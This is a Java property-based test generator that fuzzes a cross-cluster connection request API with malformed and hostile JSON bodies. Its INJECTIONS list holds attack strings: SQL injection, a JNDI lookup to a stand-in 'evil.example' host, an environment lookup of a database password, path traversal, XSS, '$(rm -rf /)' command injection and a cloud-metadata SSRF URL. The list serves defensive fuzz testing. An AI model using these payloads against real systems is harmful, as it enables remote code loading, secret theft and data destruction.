package io.crosslink.connect.property;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectWriter;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import io.crosslink.events.EventCodec;
import java.io.UncheckedIOException;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.function.UnaryOperator;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * Generated hostile connection requests, as a client would send them: a valid-shaped request (either security model,
 * optional fields present or not), then mutations of its tree (a field set to an oversized, unicode, injection,
 * wrongly typed, deeply nested or huge value; an unknown field; a duplicate key) and of its text (truncated,
 * trailing garbage, a byte order mark, comments, not JSON at all). Values a tree cannot hold (a duplicate key, 5,000
 * levels of nesting, a number of 1,200 digits, an invalid escape) are spliced into the text as written. Every value
 * comes from jqwik, so a seed reproduces a run.
 */
public final class HostileRequests {
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final ObjectWriter PLAIN = EventCodec.mapper().writer();
    /** Non-ASCII as {@code \\uXXXX} escapes: lone surrogates and NUL reach the parser intact, not as '?' bytes. */
    private static final ObjectWriter ESCAPED = EventCodec.mapper().writer().with(JsonWriteFeature.ESCAPE_NON_ASCII);

    /** Where a value goes: fields of the request (present or not in the base), down to list elements. */
    static final List<String> TARGETS = List.of("", "/alias", "/securityModel", "/local", "/local/environment",
            "/local/deploymentId", "/local/refId", "/remote", "/remote/environment", "/remote/deploymentId", "/access",
            "/access/search", "/access/search/0", "/access/search/0/names", "/access/search/0/names/0",
            "/access/search/0/names/1", "/access/search/0/query", "/access/search/0/field_security",
            "/access/search/0/field_security/grant", "/access/search/0/field_security/grant/0",
            "/access/search/0/allow_restricted_indices", "/access/search/0/privileges", "/access/replication",
            "/access/replication/0", "/access/replication/0/names", "/access/replication/0/names/0",
            "/skipUnavailable", "/roles", "/roles/0", "/roles/0/name", "/roles/0/indices", "/roles/0/indices/0/names",
            "/roles/0/indices/0/names/0", "/roles/0/indices/0/privileges", "/roles/0/indices/0/privileges/0",
            "/trust", "/trust/all", "/registration");
    /** The objects that unknown fields and duplicate keys go into. */
    static final List<String> OBJECTS = List.of("", "/local", "/remote", "/access", "/access/search/0",
            "/access/search/0/field_security", "/access/replication/0", "/roles/0", "/roles/0/indices/0", "/trust");

    static final List<String> UNICODE = List.of("\uD800", "\uDC00", "demo-\uD83D", "a\uDFFFb", "\u202Eevil\u202C",
            "demo-\u200B*", "\u200B", "\u0000", "demo\u0000", "\u0000\u0000\u0000", "\uFEFF", "\uFEFFalias",
            "ｄｅｍｏ",
            "İstanbul", "e\u0301", "\u0085", "a\u2028b", "\uD83D\uDCA5", "Ω≈ç√", "\u00A0", "straße", "\uFFFF",
            "\uFFFE", "\u001B[31mred", "\t\n\r", "\u06DD", "\u0627\u0644\u0639\u0631\u0628\u064A\u0629",
            "𝕒𝕝𝕚𝕒𝕤",
            "\uDB40\uDC41", "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇", "\u0130", "\u212A");
    static final List<String> INJECTIONS = List.of("'; DROP TABLE connections;--", "\"; DROP TABLE outbox; --",
            "${jndi:ldap://evil.example/a}", "${env:CONNECT_DB_PASSWORD}", "${sys:user.home}", "#{7*7}", "{{7*7}}",
            "%{7*7}", "../../etc/passwd", "..", ".", "..\\..\\windows\\win.ini", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "%00", "%2e%2e%2f", "a%00b", "x\r\nSet-Cookie: a=b", "demo-*,other:*",
            "*", "-*", "-", "other:idx", "remote:*", "_all", "/.*/", "+index", ".security", "1 OR 1=1",
            "' OR '1'='1", "$(rm -rf /)", "`id`", "\\u0000", "__proto__", "constructor", "null", "true",
            "0x7fffffff", "cluster.remote.x.credentials", "\\", "\"", "'", "{\"$ne\":null}", "javascript:alert(1)",
            "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "demo index", "DEMO-*", "demo#1",
            "demo|x", "demo?x", "demo<x", "demo/x", "demo,x");
    static final List<String> FIELD_NAMES = List.of("requestId", "privileges", "id", "status", "team", "subject",
            "__proto__", "constructor", "", " ", "ALIAS", "alias ", "Alias", "a.b", "$where", "names\u0000",
            "\uFEFFalias", "access.search", "null", "\u0000".repeat(200), "\u200B".repeat(200), "\"".repeat(200),
            "\uD800".repeat(200));

    private HostileRequests() {
    }

    /** A request body as sent, and what was done to it. */
    public record Body(String text, List<String> mutations, List<String> kinds) {
        public byte[] bytes() {
            return text.getBytes(StandardCharsets.UTF_8);
        }

        @Override
        public String toString() {
            return mutations + " (" + text.length() + " chars): " + abbreviate(text, 400);
        }
    }

    /**
     * A request template, rendered with a value of its own put in last (before text edits), e.g. a Kafka record's
     * {@code requestId}: the tree mutations never see it.
     */
    public record Template(ObjectNode base, List<Mutation> mutations) {
        public Body render() {
            return render(d -> {
            });
        }

        /** {@code last} sees the mutated tree; it may change it. */
        public Body render(Consumer<Draft> last) {
            Draft draft = new Draft(base.deepCopy());
            mutations.forEach(m -> m.apply().accept(draft));
            last.accept(draft);
            return new Body(draft.text(), mutations.stream().map(Mutation::label).toList(),
                    mutations.stream().map(Mutation::kind).toList());
        }

        @Override
        public String toString() {
            return render().toString();
        }
    }

    /** One change of a request: of its tree, or registered for its text; {@code kind} for statistics. */
    public record Mutation(String kind, String label, Consumer<Draft> apply) {
        @Override
        public String toString() {
            return label;
        }
    }

    /** A value to put somewhere: a JSON node, or text spliced in as written. */
    record Value(String kind, String label, JsonNode node, String raw) {
        static Value of(String label, JsonNode node) {
            return new Value(null, label, node, null);
        }

        static Value raw(String label, String raw) {
            return new Value(null, label, null, raw);
        }

        Value kind(String kind) {
            return new Value(kind, label, node, raw);
        }

        JsonNode in(Draft draft) {
            return raw == null ? node.deepCopy() : TextNode.valueOf(draft.splice(raw));
        }
    }

    /** A request being mutated: its tree, the text to splice in, the edits of its text. */
    public static final class Draft {
        private JsonNode tree;
        private final Map<String, String> spliced = new LinkedHashMap<>();
        private final List<UnaryOperator<String>> textEdits = new ArrayList<>();
        private boolean escapeNonAscii;

        Draft(JsonNode tree) {
            this.tree = tree;
        }

        public JsonNode tree() {
            return tree;
        }

        /** A placeholder string whose JSON literal (quotes included) becomes {@code raw} in the text. */
        String splice(String raw) {
            String placeholder = "__splice_" + spliced.size() + "__";
            spliced.put(placeholder, raw);
            return placeholder;
        }

        String text() {
            String text;
            try {
                text = (escapeNonAscii ? ESCAPED : PLAIN).writeValueAsString(tree);
            } catch (JsonProcessingException e) {
                throw new UncheckedIOException(e);
            }
            for (Map.Entry<String, String> splice : spliced.entrySet()) {
                text = text.replace("\"" + splice.getKey() + "\"", splice.getValue());
            }
            for (UnaryOperator<String> edit : textEdits) {
                text = edit.apply(text);
            }
            return text;
        }
    }

    /** Requests with at least {@code minMutations} (0: some stay valid-shaped) and at most 3 mutations. */
    public static Arbitrary<Template> templates(int minMutations) {
        return Combinators.combine(validShaped(), mutation().list().ofMinSize(minMutations).ofMaxSize(3))
                .as(Template::new);
    }

    /** Rendered bodies; about one in twenty unmutated. */
    public static Arbitrary<Body> bodies() {
        return Arbitraries.frequencyOf(Tuple.of(19, templates(1)), Tuple.of(1, templates(0)))
                .map(Template::render);
    }

    /** A valid request of either model, with optional fields chosen by the bits of {@code flags}. */
    static Arbitrary<ObjectNode> validShaped() {
        Arbitrary<String> alias = Arbitraries.strings().withCharRange('a', 'z').numeric().withChars('-', '_')
                .ofMinLength(1).ofMaxLength(40);
        Arbitrary<String> deploymentId = Arbitraries.strings().withCharRange('a', 'f').numeric().ofLength(32);
        Arbitrary<List<String>> names = Arbitraries.strings().withCharRange('a', 'z').numeric().withChars('*')
                .ofMaxLength(12).map(suffix -> "demo-" + suffix).list().ofMinSize(1).ofMaxSize(3);
        Arbitrary<Boolean> apiKey = Arbitraries.frequencyOf(Tuple.of(3, Arbitraries.just(true)),
                Tuple.of(1, Arbitraries.just(false)));
        return Combinators.combine(alias, apiKey, deploymentId, deploymentId, names,
                Arbitraries.integers().between(0, 255)).as(HostileRequests::request);
    }

    private static ObjectNode request(String alias, boolean apiKey, String localId, String remoteId, List<String> names,
            int flags) {
        ObjectNode body = NODES.objectNode();
        body.put("alias", alias);
        body.put("securityModel", apiKey ? "api_key" : "tls_certificate");
        ObjectNode local = body.putObject("local").put("environment", "ece").put("deploymentId", localId);
        if (bit(flags, 0)) {
            local.put("refId", "main-elasticsearch");
        }
        body.putObject("remote").put("environment", "ess").put("deploymentId", remoteId);
        if (bit(flags, 1)) {
            body.put("skipUnavailable", bit(flags, 2));
        }
        if (apiKey) {
            ObjectNode access = body.putObject("access");
            boolean replication = bit(flags, 3);
            ObjectNode entry = access.putArray(replication ? "replication" : "search").addObject();
            names.forEach(entry.putArray("names")::add);
            if (!replication && bit(flags, 4)) {
                entry.putObject("query").putObject("term").put("tenant", alias);
            }
            if (!replication && bit(flags, 5)) {
                entry.putObject("field_security").putArray("grant").add("*");
            }
            if (!replication && bit(flags, 6)) {
                entry.put("allow_restricted_indices", false);
            }
            if (bit(flags, 7)) {
                ObjectNode role = body.putArray("roles").addObject().put("name", "role-" + alias);
                ObjectNode indices = role.putArray("indices").addObject();
                indices.putArray("names").add(names.get(0));
                indices.putArray("privileges").add(replication ? "cross_cluster_replication" : "read");
            }
        } else {
            if (bit(flags, 4)) {
                body.putObject("trust").put("all", bit(flags, 5));
            }
            if (bit(flags, 6)) {
                body.put("registration", bit(flags, 7) ? "ece_remote_clusters" : "cluster_settings");
            }
        }
        return body;
    }

    private static boolean bit(int flags, int bit) {
        return (flags & (1 << bit)) != 0;
    }

    static Arbitrary<Mutation> mutation() {
        Arbitrary<Mutation> setField = Combinators.combine(Arbitraries.of(TARGETS), value())
                .as((target, value) -> new Mutation(value.kind(),
                        (target.isEmpty() ? "body" : target) + " := " + value.label(), d -> set(d, target, value)));
        Arbitrary<Mutation> unknownField = Combinators.combine(Arbitraries.of(OBJECTS), fieldName(), value())
                .as((object, name, value) -> new Mutation("unknown field", "unknown field " + abbreviate(name, 40)
                        + " in " + (object.isEmpty() ? "body" : object) + " := " + value.label(), d -> {
                            if (at(d.tree, object) instanceof ObjectNode target) {
                                target.set(name, value.in(d));
                            }
                        }));
        Arbitrary<Mutation> duplicateKey = Combinators.combine(Arbitraries.of(OBJECTS), Arbitraries.integers()
                .between(0, 20), Arbitraries.oneOf(Arbitraries.just(Value.of("the same value", null)), value()))
                .as((object, which, value) -> new Mutation("duplicate key", "duplicate key #" + which + " in "
                        + (object.isEmpty() ? "body" : object) + " := " + value.label(), d -> {
                            if (at(d.tree, object) instanceof ObjectNode target && !target.isEmpty()) {
                                List<String> keys = new ArrayList<>();
                                target.fieldNames().forEachRemaining(keys::add);
                                String key = keys.get(which % keys.size());
                                JsonNode duplicate = value.node() == null && value.raw() == null
                                        ? target.get(key).deepCopy() : value.in(d);
                                target.set(d.splice(quote(key)), duplicate);
                            }
                        }));
        Arbitrary<Mutation> escaped = Arbitraries.just(new Mutation("escaped non-ASCII", "non-ASCII escaped",
                d -> d.escapeNonAscii = true));
        return Arbitraries.frequencyOf(Tuple.of(10, setField), Tuple.of(3, unknownField), Tuple.of(3, duplicateKey),
                Tuple.of(2, textEdit()), Tuple.of(1, escaped), Tuple.of(1, wideRoles()));
    }

    /**
     * An API-key request with thousands of valid access patterns and a role naming thousands of indices outside
     * them: each is a violation whose reason would quote the patterns.
     */
    static Arbitrary<Mutation> wideRoles() {
        return Combinators.combine(Arbitraries.integers().between(1, 3_000), Arbitraries.integers().between(1, 3_000))
                .as((patterns, names) -> new Mutation("huge array", patterns + " access patterns, a role with " + names
                        + " names outside them", d -> {
                            set(d, "/securityModel", Value.of("api_key", TextNode.valueOf("api_key")));
                            set(d, "/access/search/0/names", Value.raw("patterns", list(patterns, "\"p-%d-*\"")));
                            set(d, "/roles/0/name", Value.of("wide", TextNode.valueOf("wide")));
                            set(d, "/roles/0/indices/0/names", Value.raw("names", list(names, "\"r-%d\"")));
                            set(d, "/roles/0/indices/0/privileges", Value.raw("read", "[\"read\"]"));
                        }));
    }

    /** The hostile values. */
    static Arbitrary<Value> value() {
        return Arbitraries.frequencyOf(Tuple.of(3, oversized().map(v -> v.kind("oversized"))),
                Tuple.of(3, Arbitraries.oneOf(Arbitraries.of(UNICODE), Arbitraries.strings().all().ofMinLength(1)
                                .ofMaxLength(40))
                        .map(s -> Value.of("unicode " + visible(s), TextNode.valueOf(s)).kind("unicode"))),
                Tuple.of(3, Combinators.combine(Arbitraries.of("", "demo-", "a-"), Arbitraries.of(INJECTIONS))
                        .as((prefix, s) -> Value.of("injection " + visible(prefix + s), TextNode.valueOf(prefix + s))
                                .kind("injection"))),
                Tuple.of(3, wrongType().map(v -> v.kind("wrong type"))),
                Tuple.of(1, deepNesting().map(v -> v.kind("deep nesting"))),
                Tuple.of(1, hugeArray().map(v -> v.kind("huge array"))),
                Tuple.of(2, Arbitraries.strings().ascii().ofMaxLength(300)
                        .map(s -> Value.of("ascii " + visible(s), TextNode.valueOf(s)).kind("ascii"))));
    }

    /** A string of hundreds of bytes, or around and above the 64 KiB limit. */
    static Arbitrary<Value> oversized() {
        Arbitrary<Integer> length = Arbitraries.oneOf(Arbitraries.integers().between(200, 2_000),
                Arbitraries.integers().between(60_000, 70_000), Arbitraries.integers().between(20_000, 40_000));
        return Combinators.combine(length, Arbitraries.of("a", "A", "é", "\uD83D\uDCA5", "\u0000", "x-", "../", "*"))
                .as((n, unit) -> Value.of(n + " × " + visible(unit), TextNode.valueOf(repeat(unit, n))));
    }

    static Arbitrary<Value> wrongType() {
        List<Value> values = List.of(Value.of("0", NODES.numberNode(0)), Value.of("-1", NODES.numberNode(-1)),
                Value.of("Long.MAX_VALUE", NODES.numberNode(Long.MAX_VALUE)), Value.of("1.5", NODES.numberNode(1.5)),
                Value.of("-0.0", NODES.numberNode(-0.0)), Value.of("10^40", NODES.numberNode(BigInteger.TEN.pow(40))),
                Value.of("true", NODES.booleanNode(true)), Value.of("false", NODES.booleanNode(false)),
                Value.of("null", NODES.nullNode()), Value.of("[]", NODES.arrayNode()),
                Value.of("{}", NODES.objectNode()),
                Value.of("[1,\"a\",null,{}]", NODES.arrayNode().add(1).add("a").addNull().add(NODES.objectNode())),
                Value.of("{\"a\":1}", NODES.objectNode().put("a", 1)), Value.of("\"\"", TextNode.valueOf("")),
                Value.of("\"   \"", TextNode.valueOf("   ")),
                Value.of("[\"demo-*\"] as a string", TextNode.valueOf("[\"demo-*\"]")),
                Value.raw("1e999999", "1e999999"), Value.raw("-1e-999999", "-1e-999999"),
                Value.raw("1,200 digits", "1".repeat(1_200)), Value.raw("NaN", "NaN"),
                Value.raw("Infinity", "Infinity"), Value.raw("'single'", "'single'"), Value.raw("tru", "tru"),
                Value.raw("nul", "nul"), Value.raw("01", "01"),
                Value.raw("bad escape", "\"\\uZZZZ\""), Value.raw("\\x00", "\"\\x00\""),
                Value.raw("raw control char", "\"a\u0001b\""), Value.raw("raw newline", "\"a\nb\""),
                Value.raw("unterminated", "\"abc"), Value.raw("empty", ""), Value.raw("undefined", "undefined"));
        return Arbitraries.of(values);
    }

    /** Arrays or objects nested a few levels, around Jackson's limit (1,000) or far above it. */
    static Arbitrary<Value> deepNesting() {
        Arbitrary<Integer> depth = Arbitraries.oneOf(Arbitraries.integers().between(2, 50),
                Arbitraries.integers().between(990, 1_010), Arbitraries.integers().between(1_500, 5_000));
        return Combinators.combine(depth, Arbitraries.of(true, false)).as((n, arrays) -> arrays
                ? Value.raw(n + " nested arrays", "[".repeat(n) + "]".repeat(n))
                : Value.raw(n + " nested objects", "{\"a\":".repeat(n) + "1" + "}".repeat(n)));
    }

    /** Lists of 100 to 20,000 elements. */
    static Arbitrary<Value> hugeArray() {
        Arbitrary<Integer> size = Arbitraries.oneOf(Arbitraries.integers().between(100, 2_000),
                Arbitraries.integers().between(5_000, 20_000));
        return Combinators.combine(size, Arbitraries.of("\"a\"", "1", "null", "{}", "[]", "\"demo-*\"", "\"A\"",
                        "\"d-%d\"", "{\"names\":[\"d-%d\"]}"))
                .as((n, element) -> Value.raw(n + " × " + element, list(n, element)));
    }

    /** A JSON list of {@code n} elements, {@code %d} in the element replaced by its index. */
    static String list(int n, String element) {
        StringBuilder text = new StringBuilder("[");
        for (int i = 0; i < n; i++) {
            text.append(i == 0 ? "" : ",").append(element.contains("%d") ? element.formatted(i) : element);
        }
        return text.append(']').toString();
    }

    static Arbitrary<String> fieldName() {
        return Arbitraries.oneOf(Arbitraries.of(FIELD_NAMES), Arbitraries.of(UNICODE), Arbitraries.of(INJECTIONS),
                Arbitraries.integers().between(100, 70_000).map(n -> "k".repeat(n)));
    }

    static Arbitrary<Mutation> textEdit() {
        Arbitrary<Mutation> truncate = Arbitraries.doubles().between(0, 1).map(f -> edit("truncated at "
                + (int) (f * 100) + "%", t -> t.substring(0, (int) (t.length() * f))));
        Arbitrary<Mutation> append = Arbitraries.of(" x", "}", ",", "\u0000", "]", " <script>", "{}",
                "\n{\"alias\":\"x\"}", "\n\n", "//").map(s -> edit("followed by " + visible(s), t -> t + s));
        Arbitrary<Mutation> prefix = Arbitraries.of("\uFEFF", "\u0000", " \n\t", "// c\n", "/* c */", "\u00A0")
                .map(s -> edit("preceded by " + visible(s), t -> s + t));
        Arbitrary<Mutation> replace = Arbitraries.of("", " ", "null", "42", "\"text\"", "[]", "{", "}", "not json",
                "{'alias':'x'}", "\u0000", "[{}]", "{\"a\":}", "{,}")
                .map(s -> edit("replaced by " + visible(s), t -> s));
        return Arbitraries.oneOf(truncate, append, prefix, replace,
                Arbitraries.just(edit("in a list", t -> "[" + t + "]")),
                Arbitraries.just(edit("single quotes", t -> t.replace('"', '\''))),
                Arbitraries.just(edit("a comment inside", t -> t.replaceFirst("\\{", "{/* c */"))));
    }

    private static Mutation edit(String label, UnaryOperator<String> edit) {
        return new Mutation("text edit", label, d -> d.textEdits.add(edit));
    }

    /** Sets the node at a JSON pointer, making the containers on the way (replacing ones of the wrong kind). */
    static void set(Draft draft, String pointer, Value value) {
        JsonNode node = value.in(draft);
        if (pointer.isEmpty()) {
            draft.tree = node;
            return;
        }
        String[] parts = pointer.substring(1).split("/");
        if (!fits(draft.tree, parts[0])) {
            draft.tree = container(parts[0]);
        }
        JsonNode parent = draft.tree;
        for (int i = 0; i < parts.length - 1; i++) {
            JsonNode child = child(parent, parts[i]);
            if (child == null || !fits(child, parts[i + 1])) {
                child = container(parts[i + 1]);
                put(parent, parts[i], child);
            }
            parent = child;
        }
        put(parent, parts[parts.length - 1], node);
    }

    /** The node at a JSON pointer, or null. */
    static JsonNode at(JsonNode tree, String pointer) {
        if (pointer.isEmpty()) {
            return tree;
        }
        JsonNode node = tree.at(pointer);
        return node.isMissingNode() ? null : node;
    }

    private static boolean index(String part) {
        return part.chars().allMatch(Character::isDigit);
    }

    private static boolean fits(JsonNode node, String part) {
        return index(part) ? node.isArray() : node.isObject();
    }

    private static JsonNode container(String part) {
        return index(part) ? NODES.arrayNode() : NODES.objectNode();
    }

    private static JsonNode child(JsonNode parent, String part) {
        return parent.isArray() ? parent.get(Integer.parseInt(part)) : parent.get(part);
    }

    private static void put(JsonNode parent, String part, JsonNode node) {
        if (parent instanceof ArrayNode array) {
            int i = Integer.parseInt(part);
            while (array.size() <= i) {
                array.addNull();
            }
            array.set(i, node);
        } else {
            ((ObjectNode) parent).set(part, node);
        }
    }

    private static String quote(String text) {
        try {
            return PLAIN.writeValueAsString(text);
        } catch (JsonProcessingException e) {
            throw new UncheckedIOException(e);
        }
    }

    static String repeat(String unit, int length) {
        return unit.repeat(length / unit.length() + 1).substring(0, length);
    }

    /** For labels: control characters and the like escaped, long strings cut. */
    static String visible(String text) {
        return abbreviate(text, 40);
    }

    /** {@link #visible} with at most {@code max} code points. */
    static String abbreviate(String text, int max) {
        StringBuilder out = new StringBuilder("\"");
        text.codePoints().limit(max).forEach(c -> {
            int type = Character.getType(c);
            if (c < 0x20 || c == 0x7f || type == Character.FORMAT || type == Character.SURROGATE
                    || !Character.isDefined(c)) {
                out.append(String.format("\\u%04x", c));
            } else {
                out.appendCodePoint(c);
            }
        });
        return out.append(text.codePointCount(0, text.length()) > max ? "…(" + text.length() + " chars)\"" : "\"")
                .toString();
    }
}
